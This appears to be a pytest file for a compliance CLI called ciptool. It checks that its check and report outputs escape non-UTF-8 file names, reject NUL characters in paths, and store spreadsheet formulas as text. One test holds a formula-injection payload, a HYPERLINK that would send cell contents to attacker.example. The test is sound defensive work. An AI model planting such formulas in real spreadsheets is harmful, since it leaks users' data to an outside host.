"""Output made from hostile repository content: every format holds it as text, none acts on it
and none fails on it (file names that are not UTF-8, formulas, forged lines).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ciptool.cli import app
from conftest import MINIMAL_EVIDENCE, MakeRepo, brief, run

AS_OF = ["--as-of", "2026-11-15"]
GENERATED = ["--generated-at", "2026-11-15T00:00:00Z"]


def _with_undecodable_name(make_repo: MakeRepo) -> Path:
    """A repository with a broken control file whose name holds the byte 0xff."""
    root = make_repo()
    (root / "controls" / os.fsdecode(b"bad\xff.yaml")).write_bytes(b"controls: [\n")
    return root


@pytest.mark.parametrize(
    ("output_format", "shown"),
    [
        ("json", '"file": "controls/bad\\\\xff.yaml"'),
        ("junit", 'file="controls/bad\\xff.yaml"'),
        ("github", "::error file=controls/bad\\xff.yaml,line=2,col=1,title=LD001 (ciptool)::"),
    ],
)
def test_non_utf8_file_name_is_escaped_in_check_formats(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, output_format: str, shown: str
) -> None:
    root = _with_undecodable_name(make_repo)
    out = tmp_path / f"out.{output_format}"
    args = ["check", "--repo", str(root), *AS_OF, "-f", output_format, "-o", str(out)]
    result = cli.invoke(app, args)
    assert result.exit_code == 1, result.output
    text = out.read_bytes().decode("utf-8")  # the whole document is UTF-8
    assert shown in text
    if output_format == "json":
        files = [f["file"] for f in json.loads(text)["findings"]]
        assert files == ["controls/bad\\xff.yaml"]


@pytest.mark.parametrize(
    ("kind", "doc_format"),
    [("evidence-index", f) for f in ("md", "html", "csv", "xlsx")]
    + [("audit-committee", f) for f in ("md", "html", "pdf")],
)
def test_non_utf8_file_name_does_not_stop_a_report(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, kind: str, doc_format: str
) -> None:
    root = _with_undecodable_name(make_repo)
    (root / "evidence/2026/files" / os.fsdecode(b"z\xfe.csv")).write_bytes(b"a\n")
    out = tmp_path / f"report.{doc_format}"
    args = ["report", kind, "--repo", str(root), *AS_OF, *GENERATED, "-f", doc_format]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0


def test_xlsx_about_sheet_shows_a_formula_program_name_as_text(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    program = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    root = make_repo({"ciptool.yaml": f"program: '{program}'\n"})
    out = tmp_path / "index.xlsx"
    args = ["report", "evidence-index", "--repo", str(root), *AS_OF, *GENERATED, "-f", "xlsx"]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    about = load_workbook(out)["About"]
    cell = about["B2"]
    assert (about["A2"].value, cell.value) == ("Program", program.replace("''", "'"))
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_evidence_path_with_a_nul_is_a_schema_finding(make_repo: MakeRepo, cli: CliRunner) -> None:
    evidence = MINIMAL_EVIDENCE.replace("path: files/q.csv", 'path: "files/x\\0.csv"')
    root = make_repo({"evidence/2026/iam-01.yaml": evidence})
    result = run(root)
    (finding,) = [f for f in result.findings if f.severity.value == "error"]
    assert ("SC005", "evidence/2026/iam-01.yaml", 7, 16) in brief(result)
    assert finding.message == "a file path cannot hold a NUL character (\\0)"
    checked = cli.invoke(app, ["check", "--repo", str(root), *AS_OF])
    assert checked.exit_code == 1, checked.output
    verified = cli.invoke(app, ["evidence", "verify", "--repo", str(root)])
    assert verified.exit_code == 0, verified.output
